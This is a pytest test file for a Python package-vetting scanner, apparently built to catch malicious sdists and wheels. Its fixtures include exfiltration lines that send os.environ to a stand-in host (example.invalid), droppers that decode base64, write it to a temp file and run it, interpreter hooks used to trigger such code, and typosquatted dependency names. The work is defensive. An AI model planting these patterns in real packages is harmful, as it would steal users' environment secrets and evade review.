"""Code a patient attacker reaches without a fixed name (issue 16, ADR 0039): files run from
a directory listing, a decoded file written and then run through helpers, hooks the
interpreter calls (finalisers, exception and fork hooks, codec search functions, functions
called by a string) and dependencies one key slip from a popular name. Every payload here is
inert: it names ``example.invalid`` and decodes to ``echo hi``."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.analysis import scan_python
from airlock.imports.packages.depends import lookalike_of
from airlock.imports.packages.rules import PackageFinding, Severity
from airlock.imports.packages.runfile import resolve, resolve_listed, run_files
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist, wheel

BEACON = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('http://example.invalid/c', repr(dict(os.environ)).encode())\n"
)


def _worst(findings: list[PackageFinding] | tuple[PackageFinding, ...], rule: str) -> Severity:
    return max((f.severity for f in findings if f.rule == rule), default=Severity.LOW)


# --- files a listing or a glob reaches ----------------------------------------------------


@pytest.mark.parametrize(
    ("runner", "payload"),
    [
        (
            "import glob\nfor f in glob.glob('conf/*.cfg'):\n    exec(open(f).read())\n",
            "conf/a.cfg",
        ),
        (
            (
                "import os\nfor f in os.listdir('hooks'):\n"
                "    exec(open(os.path.join('hooks', f)).read())\n"
            ),
            "hooks/a.py",
        ),
        (
            (
                "import os\nfor root, dirs, files in os.walk('hooks'):\n    for f in files:\n"
                "        with open(os.path.join(root, f)) as h:\n            exec(h.read())\n"
            ),
            "hooks/deep/a.py",
        ),
        (
            (
                "import pathlib\nhere = pathlib.Path(__file__).parent\n"
                "[exec(p.read_text()) for p in sorted(here.glob('conf/*.txt'))]\n"
            ),
            "conf/notes.txt",
        ),
    ],
)
def test_code_run_from_every_file_a_listing_returns_is_install_time_code(
    runner: str, payload: str
) -> None:
    files = {
        "setup.py": "from setuptools import setup\n" + runner + "setup()\n",
        "pkg/__init__.py": "",
        payload: BEACON,
    }
    report = vet("pkg-1.0.tar.gz", sdist("pkg", "1.0", files))
    assert report.verdict is Outcome.DENY, report.to_json()
    assert _worst(report.findings, "listed-exec") is Severity.MEDIUM
    assert _worst(report.findings, "exfiltration") is Severity.CRITICAL


def test_a_listing_that_reaches_harmless_python_is_only_noted() -> None:
    files = {
        "setup.py": "import glob\nfrom setuptools import setup\n"
        "for f in glob.glob('build_helpers/*.py'):\n    exec(open(f).read())\nsetup()\n",
        "pkg/__init__.py": "",
        "build_helpers/version.py": "VERSION = '1.0'\n",
    }
    report = vet("pkg-1.0.tar.gz", sdist("pkg", "1.0", files))
    assert report.verdict is Outcome.ALLOW, report.to_json()
    assert _worst(report.findings, "listed-exec") is Severity.MEDIUM


def test_a_listing_that_reaches_a_data_file_holds() -> None:
    files = {
        "setup.py": "import glob\nfrom setuptools import setup\n"
        "for f in glob.glob('conf/*.cfg'):\n    exec(open(f).read())\nsetup()\n",
        "pkg/__init__.py": "",
        "conf/a.cfg": "NAME = 'pkg'\n",
    }
    report = vet("pkg-1.0.tar.gz", sdist("pkg", "1.0", files))
    assert report.verdict is Outcome.HOLD, report.to_json()
    assert _worst(report.findings, "file-exec") is Severity.HIGH


MEMBERS = frozenset(
    {"p-1/setup.py", "p-1/conf/a.cfg", "p-1/hooks/x.py", "p-1/hooks/sub/y.py", "p-1/p/__init__.py"}
)


@pytest.mark.parametrize(
    ("source", "reached"),
    [
        (
            "import glob\nfor f in glob.glob('conf/*.cfg'):\n    exec(open(f).read())\n",
            ["conf/a.cfg"],
        ),
        # os.listdir: one folder, not the folders under it.
        (
            (
                "import os\nfor f in os.listdir('hooks'):\n"
                "    exec(open(os.path.join('hooks', f)).read())\n"
            ),
            ["hooks/x.py"],
        ),
        (
            (
                "import os\nfor r, d, fs in os.walk('hooks'):\n    for f in fs:\n"
                "        exec(open(os.path.join(r, f)).read())\n"
            ),
            ["hooks/sub/y.py", "hooks/x.py"],
        ),
        (
            "import glob, runpy\nfor f in glob.glob('hooks/*.py'):\n    runpy.run_path(f)\n",
            ["hooks/x.py"],
        ),
        (
            (
                "import pathlib\nfor f in pathlib.Path('hooks').rglob('*.py'):\n"
                "    exec(f.read_text())\n"
            ),
            ["hooks/sub/y.py", "hooks/x.py"],
        ),
        # A folder that does not fold lists something, but no member of the archive.
        (
            "import os\nfor n in os.listdir(os.path.expanduser('~')):\n    exec(open(n).read())\n",
            [],
        ),
    ],
)
def test_what_a_listing_reaches(source: str, reached: list[str]) -> None:
    (run,) = run_files(source)
    assert run.listed
    assert resolve_listed(run.target, "p-1/setup.py", MEMBERS) == [f"p-1/{r}" for r in reached]


def test_a_fixed_path_is_not_a_listing() -> None:
    (run,) = run_files("exec(open('p/__init__.py').read())\n")
    assert not run.listed


@pytest.mark.parametrize(
    "runner",
    [
        "import pkgutil\nexec(pkgutil.get_data(__name__, 'data/blob.txt'))\n",
        "import pkgutil\nexec(pkgutil.get_data(__name__, 'data/blob.txt').decode())\n",
        (
            "from importlib import resources\n"
            "exec(resources.files(__package__).joinpath('data/blob.txt').read_text())\n"
        ),
        (
            "import importlib.resources\n"
            "exec((importlib.resources.files('r') / 'data' / 'blob.txt').read_text())\n"
        ),
        "import importlib.resources\nexec(importlib.resources.read_text('r.data', 'blob.txt'))\n",
    ],
)
def test_a_resource_file_run_as_code_on_import_is_read_as_that_code(runner: str) -> None:
    files: dict[str, str | bytes] = {"r/__init__.py": runner, "r/data/blob.txt": BEACON}
    report = vet("r-1.0-py3-none-any.whl", wheel("r", "1.0", files))
    assert report.verdict is Outcome.DENY, report.to_json()
    assert _worst(report.findings, "file-exec") is Severity.HIGH


# --- decoded data written to a file and then run ------------------------------------------

HEAD = "import base64, os, sys, subprocess, tempfile, pathlib, zlib\nB = 'ZWNobyBoaQ=='\n\n"


@pytest.mark.parametrize(
    "body",
    [
        # through a helper that writes to the path its caller names
        (
            "def _w(p, d):\n    with open(p, 'wb') as f:\n        f.write(d)\n\n"
            "def go():\n    p = os.path.join(tempfile.gettempdir(), 'u.py')\n"
            "    _w(p, base64.b64decode(B))\n    subprocess.run([sys.executable, p])\n"
        ),
        # a path that does not fold, written and run by the same expression
        (
            "def go():\n    d = tempfile.gettempdir()\n"
            "    open(os.path.join(d, 'x.py'), 'wb').write(zlib.decompress(base64.b64decode(B)))\n"
            "    subprocess.run([sys.executable, os.path.join(d, 'x.py')])\n"
        ),
        # a path object's write_bytes, then chmod and run
        (
            "def go():\n    p = pathlib.Path(tempfile.gettempdir()) / 'x.sh'\n"
            "    p.write_bytes(base64.b64decode(B))\n    p.chmod(0o755)\n"
            "    subprocess.call(['sh', str(p)])\n"
        ),
        # mkstemp's descriptor written with os.write, its path run
        (
            "def go():\n    fd, p = tempfile.mkstemp()\n    os.write(fd, base64.b64decode(B))\n"
            "    os.close(fd)\n    os.system('sh ' + p)\n"
        ),
    ],
)
def test_decoded_bytes_written_then_run_is_a_dropper_even_when_called_later(body: str) -> None:
    report = vet("d-1.0-py3-none-any.whl", wheel("d", "1.0", {"d/__init__.py": HEAD + body}))
    assert report.verdict is Outcome.DENY, report.to_json()
    assert _worst(report.findings, "dropper") is Severity.CRITICAL


@pytest.mark.parametrize(
    "body",
    [
        # plain bytes through the same helper: a launcher written and run, not decoded data
        (
            "def _w(p, d):\n    with open(p, 'wb') as f:\n        f.write(d)\n\n"
            "def go():\n    p = os.path.join(tempfile.gettempdir(), 'u.py')\n"
            "    _w(p, b'print(1)')\n    subprocess.run([sys.executable, p])\n"
        ),
        # decoded data saved, another file run
        (
            "def go():\n    d = tempfile.gettempdir()\n"
            "    open(os.path.join(d, 'x.png'), 'wb').write(base64.b64decode(B))\n"
            "    subprocess.run([sys.executable, os.path.join(d, 'tool.py')])\n"
        ),
    ],
)
def test_a_write_and_a_run_that_do_not_meet_are_not_a_dropper(body: str) -> None:
    found = scan_python("d/__init__.py", HEAD + body)
    assert _worst(found, "dropper") is Severity.LOW


# --- code the interpreter runs with nobody calling it -------------------------------------

HOOKS = "import sys, os, atexit, weakref, codecs, threading, urllib.request\n\n"
SEND = "    urllib.request.urlopen('http://example.invalid/x', repr(dict(os.environ)).encode())\n"
SEND_ONE = "    urllib.request.urlopen('http://example.invalid/x', os.environ['HOME'].encode())\n"


@pytest.mark.parametrize(
    "source",
    [
        "def _boot():\n" + SEND + "\nglobals()['_bo' + 'ot']()\n",
        "def _boot():\n" + SEND + "\ngetattr(sys.modules[__name__], '_boot')()\n",
        "class G:\n    def __del__(self):\n    " + SEND + "\n_g = G()\n",
        "def _hook(*a):\n" + SEND + "\nsys.excepthook = _hook\n",
        "def _hook(args):\n" + SEND + "\nthreading.excepthook = _hook\n",
        "class O:\n    pass\n\ndef _bye():\n" + SEND + "\n_o = O()\nweakref.finalize(_o, _bye)\n",
        "def _child():\n" + SEND + "\nos.register_at_fork(after_in_child=_child)\n",
        "def _search(name):\n" + SEND + "\ncodecs.register(_search)\n",
    ],
)
def test_a_hook_the_interpreter_calls_runs_when_it_is_set(source: str) -> None:
    found = scan_python("m/__init__.py", HOOKS + source)
    assert _worst(found, "exfiltration") is Severity.CRITICAL, found


def test_a_finder_installed_by_a_function_called_by_a_string_is_judged() -> None:
    source = (
        "import sys, subprocess\n\nclass F:\n    def find_spec(self, name, path, target=None):\n"
        "        subprocess.Popen(['true', name])\n\n"
        "def _install():\n    sys.meta_path.insert(0, F())\n\nglobals()['_install']()\n"
    )
    assert _worst(scan_python("m/__init__.py", source), "import-hook") is Severity.HIGH


@pytest.mark.parametrize(
    "source",
    [
        (
            "class G:\n    def __init__(self):\n        self.f = open(os.devnull)\n"
            "    def __del__(self):\n        self.f.close()\n\n_g = G()\n"
        ),
        "def _hook(*a):\n    print('uncaught', *a)\n\nsys.excepthook = _hook\n",
        # One variable, not the whole environment: that is sent to an address written in
        # the code whenever it runs (ADR 0093), and this case is about when the hook runs.
        "def _boot():\n" + SEND_ONE + "\ndef later():\n    globals()['_boot']()\n",
    ],
)
def test_quiet_hooks_and_hooks_set_later_stay_below_a_hold(source: str) -> None:
    found = scan_python("m/__init__.py", HOOKS + source)
    assert all(f.severity < Severity.HIGH for f in found), found


# --- dependencies one key slip from a popular name ----------------------------------------


@pytest.mark.parametrize(
    ("name", "imitated"),
    [
        ("requezts", "requests"),
        ("numpu", "numpy"),
        # real projects a letter from a popular one, by a letter not next to it
        ("pymssql", None),
        ("cymysql", None),
        ("urllib2", None),
    ],
)
def test_a_dependency_one_key_slip_from_a_popular_name(name: str, imitated: str | None) -> None:
    assert lookalike_of(name) == imitated


def test_a_package_declaring_a_key_slip_holds() -> None:
    data = wheel(
        "helperkit",
        "0.1",
        {"helperkit/__init__.py": "def helper():\n    return 1\n"},
        requires="Requires-Dist: requezts>=2.0\n",
    )
    report = vet("helperkit-0.1-py3-none-any.whl", data)
    assert report.verdict is Outcome.HOLD, report.to_json()
    assert _worst(report.findings, "lookalike-dependency") is Severity.HIGH


# --- an absolute path names no member, listed or not -------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "import glob\nfor f in glob.glob('/tmp/*.py'):\n    exec(open(f).read())\n",
        "exec(open('/tmp/x.py').read())\n",
    ],
)
def test_an_absolute_path_never_names_an_archive_member(source: str) -> None:
    members = frozenset({"p-1/setup.py", "tmp/x.py", "p-1/tmp/x.py"})
    (run,) = run_files(source)
    if run.listed:
        assert resolve_listed(run.target, "p-1/setup.py", members) == []
    else:
        assert resolve(run.target, "p-1/setup.py", members) is None


def test_a_listing_and_a_fixed_path_name_the_same_members() -> None:
    members = frozenset({"p-1/setup.py", "p-1/conf/a.py", "conf/b.py"})
    (fixed,) = run_files("exec(open('conf/b.py').read())\n")
    (listed,) = run_files(
        "import glob\nfor f in glob.glob('conf/b.*'):\n    exec(open(f).read())\n"
    )
    assert resolve(fixed.target, "p-1/setup.py", members) == "conf/b.py"
    assert resolve_listed(listed.target, "p-1/setup.py", members) == ["conf/b.py"]


# --- hooks and objects handed on (ADR 0041) -----------------------------------------------

OBJECTS = HOOKS + "import base64, subprocess, tempfile\nB = 'ZWNobyBoaQ=='\n\n"


@pytest.mark.parametrize(
    "source",
    [
        # a bound method registered by a constructor that names no sink
        (
            "class T:\n    def __init__(self):\n        atexit.register(self.flush)\n"
            "    def flush(self):\n    " + SEND + "\n_t = T()\n"
        ),
        # a bound method set as the exception hook by a method called on import
        (
            "class T:\n    def install(self):\n        sys.excepthook = self.hook\n"
            "    def hook(self, *a):\n    " + SEND + "\nT().install()\n"
        ),
        # a bound method as a thread's target
        (
            "class T:\n    def __init__(self):\n"
            "        threading.Thread(target=self.loop, daemon=True).start()\n"
            "    def loop(self):\n    " + SEND + "\n_t = T()\n"
        ),
    ],
)
def test_a_bound_method_handed_to_the_interpreter_runs_when_it_is_handed(source: str) -> None:
    found = scan_python("m/__init__.py", OBJECTS + source)
    assert _worst(found, "exfiltration") is Severity.CRITICAL, found


@pytest.mark.parametrize(
    "source",
    [
        # an instance made by one function into a module global, used by another
        (
            "class C:\n    def go(self):\n    " + SEND + "\n_c = None\n\n"
            "def _init():\n    global _c\n    _c = C()\n\n"
            "def _run():\n    _c.go()\n\n_init()\n_run()\n"
        ),
        # an instance kept in an attribute by a constructor naming no sink
        (
            "class C:\n    def go(self):\n    " + SEND + "\n"
            "class Holder:\n    def __init__(self):\n        self.c = C()\n"
            "    def run(self):\n        self.c.go()\n\n_h = Holder()\n_h.run()\n"
        ),
    ],
)
def test_a_method_of_an_object_made_in_another_function_is_followed(source: str) -> None:
    found = scan_python("m/__init__.py", OBJECTS + source)
    assert _worst(found, "exfiltration") is Severity.CRITICAL, found


@pytest.mark.parametrize(
    "source",
    [
        # the run is walked before the write (another method): the path kept in self.path
        (
            "class D:\n    def __init__(self):\n"
            "        self.path = os.path.join(tempfile.gettempdir(), 'u.py')\n"
            "    def write(self):\n        with open(self.path, 'wb') as f:\n"
            "            f.write(base64.b64decode(B))\n"
            "    def run(self):\n        subprocess.Popen([sys.executable, self.path])\n"
        ),
        # two functions, the runner defined last
        (
            "def fetch(d):\n    open(os.path.join(d, 'x.sh'), 'wb').write(base64.b64decode(B))\n\n"
            "def start(d):\n    subprocess.call(['sh', os.path.join(d, 'x.sh')])\n"
        ),
    ],
)
def test_a_dropped_path_run_by_code_walked_before_the_write_is_a_dropper(source: str) -> None:
    found = scan_python("m/__init__.py", OBJECTS + source)
    assert _worst(found, "dropper") is Severity.CRITICAL, found


@pytest.mark.parametrize(
    "source",
    [
        # plain data written to self.path, then run
        (
            "class D:\n    def __init__(self):\n"
            "        self.path = os.path.join(tempfile.gettempdir(), 'u.py')\n"
            "    def write(self):\n        with open(self.path, 'w') as f:\n"
            "            f.write('print(1)')\n"
            "    def run(self):\n        subprocess.Popen([sys.executable, self.path])\n"
        ),
        # a constructor that stores plain values: quiet
        "class T:\n    def __init__(self):\n        self.n = 1\n\n_t = T()\n",
        # a bound method hook that only logs
        (
            "class T:\n    def __init__(self):\n        atexit.register(self.close)\n"
            "    def close(self):\n        print('bye')\n\n_t = T()\n"
        ),
    ],
)
def test_objects_and_hooks_that_do_nothing_stay_quiet(source: str) -> None:
    found = scan_python("m/__init__.py", OBJECTS + source)
    assert all(f.severity < Severity.HIGH for f in found), found


ABROAD = "import atexit, os, urllib.request\n\n"


@pytest.mark.parametrize(
    ("init", "module"),
    [
        # a class of another module, made on import: its constructor registers a bound method
        (
            "from ._b import T\n_t = T()\n",
            ABROAD + "class T:\n    def __init__(self):\n        atexit.register(self.flush)\n"
            "    def flush(self):\n    " + SEND,
        ),
        # a factory of another module; a method called on what it returns
        (
            "from ._b import make\nmake().go()\n",
            ABROAD + "class C:\n    def go(self):\n    " + SEND + "\ndef make():\n    return C()\n",
        ),
    ],
)
def test_an_object_of_another_module_made_on_import_is_followed(init: str, module: str) -> None:
    files: dict[str, str | bytes] = {"o/__init__.py": init, "o/_b.py": module}
    report = vet("o-1.0-py3-none-any.whl", wheel("o", "1.0", files))
    assert report.verdict is Outcome.DENY, report.to_json()
    assert _worst(report.findings, "exfiltration") is Severity.CRITICAL


def test_an_object_of_another_module_that_only_logs_stays_quiet() -> None:
    module = (
        ABROAD + "class T:\n    def __init__(self):\n        atexit.register(self.close)\n"
        "    def close(self):\n        print('bye')\n\n"
        "def send(d):\n    urllib.request.urlopen('https://example.invalid/api', d)\n"
    )
    files: dict[str, str | bytes] = {
        "o/__init__.py": "from ._b import T\n_t = T()\n",
        "o/_b.py": module,
    }
    report = vet("o-1.0-py3-none-any.whl", wheel("o", "1.0", files))
    assert report.verdict is Outcome.ALLOW, report.to_json()


# --- a listing or a path kept in a settings module ----------------------------------------


@pytest.mark.parametrize(
    ("runner", "settings", "payload"),
    [
        (
            (
                "import glob, os\nfrom .settings import PLUGINS\n"
                "for f in glob.glob(os.path.join(PLUGINS, '*.txt')):\n    exec(open(f).read())\n"
            ),
            "import os\nPLUGINS = os.path.join(os.path.dirname(__file__), 'plugins')\n",
            "k/plugins/a.txt",
        ),
        (
            (
                "import glob\nfrom . import settings\n"
                "for f in glob.glob(settings.DATA + '/*.dat'):\n    exec(open(f).read())\n"
            ),
            "import os\nBASE = os.path.dirname(__file__)\nDATA = BASE + '/data'\n",
            "k/data/a.dat",
        ),
        (
            "from .settings import BOOT\nexec(open(BOOT).read())\n",
            "import os\nBOOT = os.path.join(os.path.dirname(__file__), 'boot.dat')\n",
            "k/boot.dat",
        ),
    ],
)
def test_a_path_taken_from_a_settings_module_is_followed(
    runner: str, settings: str, payload: str
) -> None:
    files: dict[str, str | bytes] = {
        "k/__init__.py": runner,
        "k/settings.py": settings,
        payload: BEACON,
    }
    report = vet("k-1.0-py3-none-any.whl", wheel("k", "1.0", files))
    assert report.verdict is Outcome.DENY, report.to_json()
    assert _worst(report.findings, "file-exec") is Severity.HIGH


def test_a_setup_listing_from_a_build_settings_module_is_install_time_code() -> None:
    files = {
        "setup.py": "import glob\nfrom setuptools import setup\nfrom buildcfg import HOOKS\n"
        "for f in glob.glob(HOOKS + '/*.py'):\n    exec(open(f).read())\nsetup()\n",
        "buildcfg.py": "HOOKS = 'hooks'\n",
        "pkg/__init__.py": "",
        "hooks/a.py": BEACON,
    }
    report = vet("pkg-1.0.tar.gz", sdist("pkg", "1.0", files))
    assert report.verdict is Outcome.DENY, report.to_json()
    assert _worst(report.findings, "exfiltration") is Severity.CRITICAL


def test_a_settings_listing_of_harmless_helpers_is_only_noted() -> None:
    files = {
        "setup.py": "import glob\nfrom setuptools import setup\nfrom buildcfg import HOOKS\n"
        "for f in glob.glob(HOOKS + '/*.py'):\n    exec(open(f).read())\nsetup()\n",
        "buildcfg.py": "HOOKS = 'hooks'\n",
        "pkg/__init__.py": "",
        "hooks/version.py": "VERSION = '1.0'\n",
    }
    report = vet("pkg-1.0.tar.gz", sdist("pkg", "1.0", files))
    assert report.verdict is Outcome.ALLOW, report.to_json()
